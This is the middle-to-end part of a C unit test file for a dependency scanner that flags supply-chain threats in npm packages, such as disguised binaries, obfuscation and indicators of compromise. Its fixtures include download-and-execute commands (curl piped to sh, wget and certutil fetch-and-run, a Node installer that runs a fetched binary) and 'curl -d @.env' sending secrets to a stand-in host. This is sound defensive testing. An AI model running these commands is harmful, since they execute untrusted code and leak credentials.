    CLEAN("", "echo $MY_NPM_TOKENS_COUNT", DEPS_CONTENT_SCRIPT_TEXT);
}

static void test_bund(void **state)
{
    unsigned char elf[64] = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
    unsigned char pe[256] = {'M', 'Z'};
    unsigned char macho[64] = {0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1};
    unsigned char java[64] = {0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52};
    struct got g;

    (void)state;
    pe[0x3c] = 0x80;
    memcpy(pe + 0x80, "PE\0\0", 4);
    g = scan("lib/index.js", (const char *)elf, sizeof(elf), 0);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.rule[0], "L2-BUND-001");
    assert_int_equal(g.sev[0], DEPS_SEV_HIGH); /* disguised as .js */
    g = scan("bin/tool", (const char *)elf, sizeof(elf), DEPS_CONTENT_INSTALL_TIME);
    assert_int_equal(g.sev[0], DEPS_SEV_CRITICAL);
    g = scan("payload.exe", (const char *)pe, sizeof(pe), 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.sev[0], DEPS_SEV_MEDIUM);
    g = scan("lib/helper", (const char *)macho, sizeof(macho), 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.sev[0], DEPS_SEV_MEDIUM);
    /* addons and binaries where packages keep them: informational or low */
    g = scan("build/Release/addon.node", (const char *)elf, sizeof(elf), 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.sev[0], DEPS_SEV_INFO);
    g = scan("prebuilds/linux-x64/node.napi.node", (const char *)elf, sizeof(elf), 0);
    assert_int_equal(g.sev[0], DEPS_SEV_INFO);
    g = scan("bin/esbuild", (const char *)elf, sizeof(elf), 0);
    assert_int_equal(g.sev[0], DEPS_SEV_LOW);
    /* LOW: prebuilt tools in folders named for a platform, shared libraries under lib/;
     * MEDIUM: a word that only starts like a platform, a library outside lib/, an .exe in src/ */
    static const struct {
        const char *path;
        enum deps_severity sev;
    } where[] = {{"linux/x64/7za", DEPS_SEV_LOW},
                 {"mac/app-builder_arm64", DEPS_SEV_LOW},
                 {"sdks/hermesc/win64-bin/icuuc64.dll", DEPS_SEV_LOW},
                 {"fallbacks/windows/clipboard_x86_64.exe", DEPS_SEV_LOW},
                 {"lib/libvips-cpp.so.42", DEPS_SEV_LOW},
                 {"lib/libfoo.dylib", DEPS_SEV_LOW},
                 {"winston/helper", DEPS_SEV_MEDIUM},
                 {"src/fastlist.exe", DEPS_SEV_MEDIUM},
                 {"libfoo.so.1", DEPS_SEV_MEDIUM},
                 {"lib/tool.so.x", DEPS_SEV_MEDIUM}};
    for (size_t i = 0; i < sizeof(where) / sizeof(where[0]); i++) {
        g = scan(where[i].path, (const char *)elf, sizeof(elf), 0);
        assert_int_equal(g.n, 1);
        if (g.sev[0] != where[i].sev)
            fail_msg("%s: severity %d, expected %d", where[i].path, g.sev[0], where[i].sev);
    }
    /* not executables: a Java class, "MZ" text, a PNG */
    clean("A.class", (const char *)java, sizeof(java), 0, NULL, DEPS_SEV_INFO);
    clean("notes.txt", "MZ is a file format\n", 20, 0, NULL, DEPS_SEV_INFO);
    clean("logo.png", "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16, 0, NULL, DEPS_SEV_INFO);

    /* install-time download and run */
    expect("", "curl -sSL https://get.example.sh | sh", DEPS_CONTENT_SCRIPT_TEXT, "L2-BUND-001",
           DEPS_SEV_HIGH, 1);
    expect("", "wget -q http://1.2.3.4/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
           DEPS_CONTENT_SCRIPT_TEXT, "L2-BUND-001", DEPS_SEV_HIGH, 1);
    expect("install.js",
           "const https = require('https'), fs = require('fs');\n"
           "const { execFileSync } = require('child_process');\n"
           "https.get('http://10.0.0.1/bin', r => r.pipe(fs.createWriteStream(f)));\n"
           "fs.chmodSync(f, 0o755);\nexecFileSync(f);\n",
           DEPS_CONTENT_INSTALL_TIME, "L2-BUND-001", DEPS_SEV_HIGH, 5);
    /* an ELF embedded as base64 in code */
    char *blob = b64_blob(2048, "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA");
    char *text = malloc(4096);
    assert_non_null(text);
    snprintf(text, 4096, "module.exports = '%s';\n", blob);
    expect("data.js", text, 0, "L2-BUND-001", DEPS_SEV_HIGH, 1);
    free(text);
    free(blob);
    expect("", "certutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe && start a.exe",
           DEPS_CONTENT_SCRIPT_TEXT, "L2-BUND-001", DEPS_SEV_HIGH, 1);
    CLEAN("", "node install.js || echo failed", DEPS_CONTENT_SCRIPT_TEXT);
}

/* Files the scanner never reads (source maps, type declarations, Markdown), and code that
 * loads or runs one of them anyway. */
static void test_unread(void **state)
{
    static const char *const unread[] = {
        "index.js.map", "dist/a.mjs.map", "types/x.d.ts.map", "style.css.map",     "index.d.ts",
        "lib/x.d.mts",  "x.d.cts",        "README.md",        "docs/API.MARKDOWN", "CHANGELOG.Md"};
    static const char *const read[] = {
        "index.js", "es.map", "modules/es.map.js", "map",    "lib/.md", "x.d.tsx",
        "README",   "a.ts",   "notes.txt",         ".js.map"};
    (void)state;
    for (size_t i = 0; i < sizeof(unread) / sizeof(unread[0]); i++)
        assert_true(deps_content_unread(unread[i], strlen(unread[i])));
    for (size_t i = 0; i < sizeof(read) / sizeof(read[0]); i++)
        assert_false(deps_content_unread(read[i], strlen(read[i])));

    expect("index.js", "module.exports = require('./lib/payload.md');\n", 0, "L2-BUND-001",
           DEPS_SEV_HIGH, 1);
    expect("index.js", "const x = require(path.join(__dirname, 'types/run.d.ts'));\n", 0,
           "L2-BUND-001", DEPS_SEV_HIGH, 1);
    expect("setup.js", "eval(fs.readFileSync(__dirname + '/docs/usage.md', 'utf8'));\n",
           DEPS_CONTENT_INSTALL_TIME, "L2-BUND-001", DEPS_SEV_CRITICAL, 1);
    expect("index.js", "const cp = require('child_process');\ncp.spawn('./bin/tool.js.map');\n", 0,
           "L2-BUND-001", DEPS_SEV_HIGH, 2);
    expect("index.js", "import(`${base}/chunk.js.map`).then(run);\n", 0, "L2-BUND-001",
           DEPS_SEV_HIGH, 1);
    /* module names and extension-less requires, release tooling, writing docs */
    CLEAN("index.js", "require('../../modules/es.map');\nrequire('array.prototype.map');\n", 0);
    CLEAN("release.js",
          "const { exec, execFile } = require('child_process');\n"
          "exec('git add CHANGELOG.md');\nexecFile('git', ['add', 'CHANGELOG.md']);\n",
          0);
    CLEAN("gen.js", "fs.writeFileSync(path.join(out, 'README.md'), text);\n", 0);
    CLEAN("index.js", "const doc = 'see docs/usage.md';\nmodule.exports = doc;\n", 0);
    /* TypeScript sources: import() of a declaration file is a type (TS2846 refuses it as a
     * value), as the Anthropic SDK's src/internal/types.ts writes; not in JavaScript, and
     * not require() nor other unread kinds */
    CLEAN("src/internal/types.ts",
          "type R = NotAny<import('../../../node_modules/undici-types/index.d.ts').RequestInit>;"
          "\n",
          0);
    CLEAN("src/a.mts", "let x: typeof import('./lib/x.d.mts');\n", 0);
    expect("src/a.js", "const t = import('../node_modules/undici-types/index.d.ts');\n", 0,
           "L2-BUND-001", DEPS_SEV_HIGH, 1);
    expect("src/a.ts", "const t = require('./types/run.d.ts');\n", 0, "L2-BUND-001", DEPS_SEV_HIGH,
           1);
    expect("src/a.ts", "await import('./docs/payload.md');\n", 0, "L2-BUND-001", DEPS_SEV_HIGH, 1);
}

static void test_ioc(void **state)
{
    struct got g;
    uint8_t digest[32];

    (void)state;
    expect("a.js", "var u = 'https://api.evil-c2.example.net/collect';", 0, "L2-IOC-001",
           DEPS_SEV_CRITICAL, 1);
    expect("README.md", "x\nsee EVIL-C2.example.NET.\n", 0, "L2-IOC-001", DEPS_SEV_CRITICAL, 2);
    expect("a.json", "{\"u\":\"https://hooks.example.com/abc123-def?x=1\"}", 0, "L2-IOC-001",
           DEPS_SEV_CRITICAL, 1);
    expect("", "curl -d @.env drop.example.org", DEPS_CONTENT_SCRIPT_TEXT, "L2-IOC-001",
           DEPS_SEV_CRITICAL, 1);
    /* not as part of another name */
    CLEAN("a.js", "var u = 'https://notevil-c2.example.net/'; var v = 'drop.example.organic';", 0);
    CLEAN("a.js", "var u = 'my_drop.example.org'; var w = 'https://hooks.example.com/abc';", 0);
    /* file hashes */
    memset(digest, 0, sizeof(digest));
    g.n = 0;
    assert_int_equal(deps_content_scan_sha256(db, "x.js", digest, on_hit, &g), 0);
    for (int i = 0; i < 32; i++)
        digest[i] = (uint8_t)((i % 16) * 0x11);
    memset(&g, 0, sizeof(g));
    assert_int_equal(deps_content_scan_sha256(db, "x.js", digest, on_hit, &g), 1);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.rule[0], "L2-IOC-001");
    assert_int_equal(g.line[0], 0);
    assert_non_null(strstr(g.msg[0], "test incident D"));
    assert_int_equal(deps_content_scan_sha256(NULL, "x", digest, on_hit, &g), -EINVAL);
}

/* Many indicators in one file: a host name is reported once, as the longest domain of the
 * corpus it ends with, each domain once; of the URLs, the first eight of the corpus found
 * (the cap per rule), each at its first place. */
static void test_ioc_many(void **state)
{
    static const char many[] = "domain\texample.com\tI1\n"
                               "domain\tapi.example.com\tI2\n"
                               "url\thttps://u.example/0\tU0\n"
                               "url\thttps://u.example/1\tU1\n"
                               "url\thttps://u.example/2\tU2\n"
                               "url\thttps://u.example/3\tU3\n"
                               "url\thttps://u.example/4\tU4\n"
                               "url\thttps://u.example/5\tU5\n"
                               "url\thttps://u.example/6\tU6\n"
                               "url\thttps://u.example/7\tU7\n"
                               "url\thttps://u.example/8\tU8\n"
                               "url\thttps://u.example/9\tU9\n";
    struct deps_content_db *d = NULL;
    struct got g;
    char text[512];
    size_t k = 0;

    (void)state;
    assert_int_equal(deps_content_db_new(many, strlen(many), &d, NULL, 0), 0);
    scan_both(d, "a.md", "x.API.Example.COM y.api.example.com\nexample.com\n",
              strlen("x.API.Example.COM y.api.example.com\nexample.com\n"), 0, &g);
    assert_int_equal(g.n, 2);
    assert_non_null(strstr(g.msg[0], "api.example.com (I2)"));
    assert_int_equal(g.line[0], 1);
    assert_non_null(strstr(g.msg[1], "example.com (I1)"));
    assert_int_equal(g.line[1], 2);
    /* the URLs in reverse order, each twice: lines 1-10, then 11-20 */
    for (int r = 0; r < 2; r++)
        for (int u = 9; u >= 0; u--)
            k += (size_t)snprintf(text + k, sizeof(text) - k, "https://u.example/%d\n", u);
    scan_both(d, "a.md", text, k, 0, &g);
    assert_int_equal(g.n, 8);
    for (size_t i = 0; i < 8; i++) {
        char want[16];
        snprintf(want, sizeof(want), "(U%zu)", 7 - i); /* U7 is on line 3, ..., U0 on 10 */
        assert_non_null(strstr(g.msg[i], want));
        assert_int_equal(g.line[i], 3 + i);
    }
    deps_content_db_free(d);
}

/* The block-wise searches (identifier ends, plain runs of string bodies, sixteen bytes at a
 * time; the Hyperscan pass of host names) at every offset: each must stop where the byte loop
 * does, including at the end of the buffer. */
static void test_block_edges(void **state)
{
    /* identifier bytes of every kind, '$' and UTF-8 included */
    static const char idb[] = "aZ_$9\xc3\xa9q";
    char text[256], name[64];

    (void)state;
    for (size_t pad = 0; pad < 40; pad++) {
        memset(text, ' ', pad);
        /* a host as the last bytes of the buffer, and one followed by another label */
        snprintf(text + pad, sizeof(text) - pad, "x='drop.example.org");
        expect("a.js", text, 0, "L2-IOC-001", DEPS_SEV_CRITICAL, 1);
        snprintf(text + pad, sizeof(text) - pad, "drop.example.org.x.y.z");
        CLEAN("a.md", text, 0);
        snprintf(text + pad, sizeof(text) - pad, "a.b.c.d.e.f.g.h.i.j.drop.example.org.");
        expect("a.md", text, 0, "L2-IOC-001", DEPS_SEV_CRITICAL, 1);
        /* a name ending in a keyword is not the keyword */
        for (size_t i = 0; i < pad + 1; i++)
            name[i] = idb[i % (sizeof(idb) - 1)];
        name[pad + 1] = '\0';
        snprintf(text, sizeof(text), "%seval(atob(y))", name);
        CLEAN("a.js", text, 0);
        snprintf(text, sizeof(text), "%s eval(atob(y))", name);
        expect("a.js", text, 0, "L2-OBFS-001", DEPS_SEV_HIGH, 1);
        /* a string ends at its quote, not at an escaped one, wherever they fall */
        memset(name, 'p', pad);
        name[pad] = '\0';
        snprintf(text, sizeof(text), "var s = '%s';\neval(atob(y))", name);
        expect("a.js", text, 0, "L2-OBFS-001", DEPS_SEV_HIGH, 2);
        snprintf(text, sizeof(text), "var s = '%s\\'; eval(atob(y))'", name);
        CLEAN("a.js", text, 0);
        snprintf(text, sizeof(text), "var s = \"%s\n eval(atob(y))", name);
        expect("a.js", text, 0, "L2-OBFS-001", DEPS_SEV_HIGH, 2);
        /* template literals: an expression is code, an escaped one is text */
        snprintf(text, sizeof(text), "var t = `%s${eval(atob(y))}`", name);
        expect("a.js", text, 0, "L2-OBFS-001", DEPS_SEV_HIGH, 1);
        snprintf(text, sizeof(text), "var t = `%s\\${eval(atob(y))}`", name);
        CLEAN("a.js", text, 0);
    }
}

/* Benign shapes: a minified library, a webpack bundle, a source map, lookup tables. */
static void test_benign(void **state)
{
    (void)state;
    CLEAN("dist/lib.min.js",
          "!function(e,t){\"object\"==typeof exports&&\"undefined\"!=typeof module?module.exports="
          "t():\"function\"==typeof define&&define.amd?define(t):(e=e||self).lib=t()}(this,"
          "function(){\"use strict\";var e=Object.prototype.hasOwnProperty,t=/[\\\\^$.*+?()[\\]{}"
          "|]/g;function n(n){return n.replace(t,\"\\\\$&\")}function r(e){return e&&e.length?e"
          "[0]:void 0}var o=Function(\"return this\")(),i=o.atob||function(e){return Buffer.from"
          "(e,\"base64\").toString(\"binary\")};return{escape:n,head:r,decode:i}});\n"
          "//# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozfQ==\n",
          0);
    CLEAN("dist/main.js",
          "/******/ (() => { var __webpack_modules__ = ({\n"
          "\"./src/a.js\": ((module) => {\neval(\"module.exports = 1;\\n\\n//# sourceURL=webpack:"
          "///./src/a.js?\");\n}),\n});\n"
          "var __webpack_require__ = function(id) { return __webpack_modules__[id](); };\n"
          "})();\n",
          0);
    CLEAN("lib.js.map",
          "{\"version\":3,\"sources\":[\"a.js\"],\"mappings\":\"AAAA,SAASA,EAAE;AACX\"}", 0);
    CLEAN("lodash.js",
          "var reEscape = /<%-([\\s\\S]+?)%>/g, reEvaluate = /<%([\\s\\S]+?)%>/g;\n"
          "var result = attempt(function() {\n  return Function(importsKeys, sourceURL + 'return '"
          " + source).apply(undefined, importsValues);\n});\n"
          "var htmlEscapes = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '\"': '&quot;' };\n",
          0);
    CLEAN("crc.js",
          "var TABLE = [0x00000000, 0x77073096, 0xEE0E612C, 0x990951BA, 0x076DC419, 0x706AF48F];\n",
          0);
    /* an empty file, a lone quote, unterminated things */
    CLEAN("a.js", "", 0);
    CLEAN("a.js", "'", 0);
    CLEAN("a.js", "`${", 0);
    CLEAN("a.js", "/* never closed", 0);
    CLEAN("a.js", "x = `a ${ `b ${c}` } d`; eval(`${atob}`)", 0);
}

static void test_caps(void **state)
{
    size_t n = DEPS_CONTENT_MAX_SCAN + 4096;
    char *big = malloc(n);
    const char *tail = "eval(atob(x))";
    struct got g;

    (void)state;
    assert_non_null(big);
    memset(big, ' ', n);
    /* beyond the cap: not analysed */
    memcpy(big + n - strlen(tail) - 1, tail, strlen(tail));
    clean("big.js", big, n, 0, NULL, DEPS_SEV_INFO);
    /* within it: found, on the right line */
    big[1000] = '\n';
    memcpy(big + 2000, tail, strlen(tail));
    g = scan("big.js", big, n, 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.line[0], 2);
    free(big);
    /* many hits: capped */
    size_t m = 100 * 16 + 1;
    char *many = malloc(m);
    assert_non_null(many);
    for (int i = 0; i < 100; i++)
        memcpy(many + 15 * i, "eval(atob(x));\n", 15);
    many[1500] = '\0';
    g = scan("many.js", many, strlen(many), 0);
    assert_true(g.n <= 8);
    free(many);
    assert_int_equal(deps_content_scan(NULL, "a", "", 0, 0, on_hit, &g), -EINVAL);
    /* hostile shapes that would make a naive lexer quadratic: every '/' could start a regular
     * expression whose character class never closes; dots everywhere; unclosed strings */
    static const char *const shapes[] = {"=/[", "a.net.", "'x", "`${", "(/(", "eval(atob("};
    size_t hn = (size_t)4 << 20;
    char *hostile = malloc(hn);
    assert_non_null(hostile);
    for (size_t k = 0; k < sizeof(shapes) / sizeof(shapes[0]); k++) {
        size_t sl = strlen(shapes[k]);
        for (size_t i = 0; i < hn; i++)
            hostile[i] = shapes[k][i % sl];
        g = scan("hostile.js", hostile, hn, DEPS_CONTENT_INSTALL_TIME);
        assert_true(g.n <= DEPS_CONTENT_MAX_HITS);
    }
    free(hostile);
}

static enum deps_severity sev_of(const char *s, size_t n)
{
    static const char *const names[] = {"INFO", "LOW", "MEDIUM", "HIGH", "CRITICAL"};
    for (int i = 0; i < 5; i++)
        if (strlen(names[i]) == n && strncmp(s, names[i], n) == 0)
            return (enum deps_severity)i;
    fail_msg("bad severity %.*s", (int)n, s);
    return DEPS_SEV_INFO;
}

/* Value of "key=" in a case header, up to the next space (copied into out). */
static void header_field(const char *hdr, const char *key, char *out, size_t cap)
{
    const char *p = strstr(hdr, key);
    size_t n = 0;

    if (p == NULL)
        fail_msg("case header without %s: %s", key, hdr);
    p += strlen(key);
    while (p[n] && p[n] != ' ' && p[n] != '\n' && n + 1 < cap)
        n++;
    memcpy(out, p, n);
    out[n] = '\0';
}

/* One case of content_cases/: a header line
 *   #! path=P flags=none|install|script expect=RULE:SEV[:LINE],... max=SEV
 * then the file (or script text). Every expected hit must appear with exactly that severity;
 * every other hit must be below max ("any": no limit). */
static void run_case(const struct deps_content_db *d, const char *name, char *text, size_t len)
{
    char hdr[512], path[128], flags_s[16], exp[256], max_s[16];
    char *nl = memchr(text, '\n', len);
    unsigned flags = 0;
    struct got g;
    int used[16] = {0};

    if (strncmp(text, "#! ", 3) != 0 || nl == NULL || (size_t)(nl - text) >= sizeof(hdr))
        fail_msg("%s: no case header", name);
    memcpy(hdr, text, (size_t)(nl - text));
    hdr[nl - text] = '\0';
    header_field(hdr, "path=", path, sizeof(path));
    header_field(hdr, "flags=", flags_s, sizeof(flags_s));
    header_field(hdr, "expect=", exp, sizeof(exp));
    header_field(hdr, "max=", max_s, sizeof(max_s));
    if (strcmp(flags_s, "install") == 0)
        flags = DEPS_CONTENT_INSTALL_TIME;
    else if (strcmp(flags_s, "script") == 0)
        flags = DEPS_CONTENT_SCRIPT_TEXT;
    text = nl + 1;
    scan_both(d, path, text, strlen(text), flags, &g);
    for (char *e = exp; *e;) {
        char *comma = strchr(e, ','), *c1 = strchr(e, ':'), *c2;
        size_t i;
        uint32_t line = 0;
        if (comma)
            *comma = '\0';
        if (c1 == NULL)
            fail_msg("%s: bad expectation %s", name, e);
        *c1 = '\0';
        c2 = strchr(c1 + 1, ':');
        enum deps_severity sev = sev_of(c1 + 1, c2 ? (size_t)(c2 - c1 - 1) : strlen(c1 + 1));
        if (c2)
            line = (uint32_t)strtoul(c2 + 1, NULL, 10);
        for (i = 0; i < g.n && i < 16; i++)
            if (!used[i] && strcmp(g.rule[i], e) == 0 && g.sev[i] == sev &&
                (line == 0 || g.line[i] == line))
                break;
        if (i >= g.n || i >= 16) {
            for (size_t k = 0; k < g.n && k < 16; k++)
                print_message("  got %s sev %d line %u: %s\n", g.rule[k], g.sev[k], g.line[k],
                              g.msg[k]);
            fail_msg("%s: expected %s sev %d line %u", name, e, sev, line);
        }
        used[i] = 1;
        e = comma ? comma + 1 : e + strlen(e);
    }
    if (strcmp(max_s, "any") == 0) /* other hits welcome */
        return;
    enum deps_severity max = sev_of(max_s, strlen(max_s));
    for (size_t i = 0; i < g.n && i < 16; i++)
        if (!used[i] && g.sev[i] >= max)
            fail_msg("%s: unexpected %s sev %d line %u: %s", name, g.rule[i], g.sev[i], g.line[i],
                     g.msg[i]);
}

static void test_cases(void **state)
{
    const char *src = getenv("WARDEN_SOURCE_DIR");
    char dir[512], path[1024], err[128], *tsv;
    struct deps_content_db *d = NULL;
    struct dirent *de;
    size_t n_cases = 0, len;
    DIR *dh;
    FILE *f;

    (void)state;
    if (src == NULL)
        skip();
    snprintf(path, sizeof(path), "%s/rules/supply-chain/iocs.tsv", src);
    f = fopen(path, "rb");
    assert_non_null(f);
    tsv = malloc(1 << 20);
    assert_non_null(tsv);
    len = fread(tsv, 1, 1 << 20, f);
    fclose(f);
    assert_int_equal(deps_content_db_new(tsv, len, &d, err, sizeof(err)), 0);
    deps_content_db_prefilter(d);
    free(tsv);
    snprintf(dir, sizeof(dir), "%s/tests/unit/deps/content_cases", src);
    dh = opendir(dir);
    assert_non_null(dh);
    while ((de = readdir(dh)) != NULL) {
        char *text;
        if (de->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
        f = fopen(path, "rb");
        assert_non_null(f);
        text = malloc(1 << 16);
        assert_non_null(text);
        len = fread(text, 1, (1 << 16) - 1, f);
        text[len] = '\0';
        fclose(f);
        run_case(d, de->d_name, text, len);
        free(text);
        n_cases++;
    }
    closedir(dh);
    deps_content_db_free(d);
    assert_true(n_cases >= 20);
}

/* The pre-filter database embedded at build time is what its patterns compile to on this
 * machine (the build made it here), and a database compiled at run time (what a scan does
 * where the embedded one is refused) gives the same bytes. */
static void test_prefilter_db(void **state)
{
    hs_database_t *hs = NULL, *loaded = NULL;
    hs_compile_error_t *err = NULL;
    char *bytes = NULL;
    size_t len = 0;
    (void)state;

    assert_int_equal(deps_prefilter_compile(&hs, &err), HS_SUCCESS);
    assert_int_equal(hs_serialize_database(hs, &bytes, &len), HS_SUCCESS);
    assert_int_equal(len, deps_prefilter_hsdb_len);
    assert_memory_equal(bytes, deps_prefilter_hsdb, len);
    assert_int_equal(hs_deserialize_database((const char *)deps_prefilter_hsdb,
                                             deps_prefilter_hsdb_len, &loaded),
                     HS_SUCCESS);
    free(bytes);
    hs_free_database(hs);
    hs_free_database(loaded);
}

static int count_match(unsigned id, unsigned long long from, unsigned long long to, unsigned flags,
                       void *ctx)
{
    (void)id;
    (void)from;
    (void)to;
    (void)flags;
    ++*(int *)ctx;
    return 0;
}

/* PRE_ESCAPES matches four escapes of printable characters in a row (what lex_string counts
 * for L2-OBFS-002) and not runs broken by a control, DEL-or-above or non-ASCII character. */
static void test_prefilter_escapes(void **state)
{
    static const struct {
        const char *text;
        int match;
    } cases[] = {
        {"'\\x20\\x41\\x7e\\x7E'", 1},
        {"'\\u0020\\u0041\\u007e\\u007E'", 1},
        {"'\\040\\101\\176\\040'", 1},
        {"'\\x41\\u0042\\103\\x44'", 1},
        {"'\\x1f\\x41\\x42\\x43'", 0}, /* a control first: a run of three */
        {"'\\x41\\x42\\x43\\x80'", 0}, /* above DEL */
        {"'\\u0100\\u0041\\u0042\\u0043'", 0},
        {"'\\u00aa\\u00b5\\u00ba\\u00c0'", 0}, /* a Unicode table */
        {"'\\037\\101\\102\\103'", 0},
        {"'\\200\\101\\102\\103'", 0},
        {"'\\x1b[31m\\x1b[0m'", 0},     /* ANSI colours */
        {"'\\x41\\x42 \\x43\\x44'", 0}, /* broken by a plain character */
    };
    hs_database_t *hs = NULL;
    hs_scratch_t *scratch = NULL;
    hs_compile_error_t *err = NULL;
    (void)state;

    assert_int_equal(hs_compile(pre_pats[PRE_ESCAPES].re, pre_pats[PRE_ESCAPES].flags,
                                HS_MODE_BLOCK, NULL, &hs, &err),
                     HS_SUCCESS);
    assert_int_equal(hs_alloc_scratch(hs, &scratch), HS_SUCCESS);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        int found = 0;
        assert_int_equal(hs_scan(hs, cases[i].text, (unsigned)strlen(cases[i].text), 0, scratch,
                                 count_match, &found),
                         HS_SUCCESS);
        if ((found > 0) != cases[i].match)
            fail_msg("PRE_ESCAPES %s %s", cases[i].match ? "misses" : "matches", cases[i].text);
    }
    hs_free_scratch(scratch);
    hs_free_database(hs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_db),
        cmocka_unit_test(test_obfs1),
        cmocka_unit_test(test_obfs2),
        cmocka_unit_test(test_obfs3),
        cmocka_unit_test(test_obfs4),
        cmocka_unit_test(test_cred),
        cmocka_unit_test(test_bund),
        cmocka_unit_test(test_ioc),
        cmocka_unit_test(test_ioc_many),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_caps),
        cmocka_unit_test(test_cases),
        cmocka_unit_test(test_lexer_edges),
        cmocka_unit_test(test_block_edges),
        cmocka_unit_test(test_unread),
        cmocka_unit_test(test_prefilter_db),
        cmocka_unit_test(test_prefilter_escapes),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
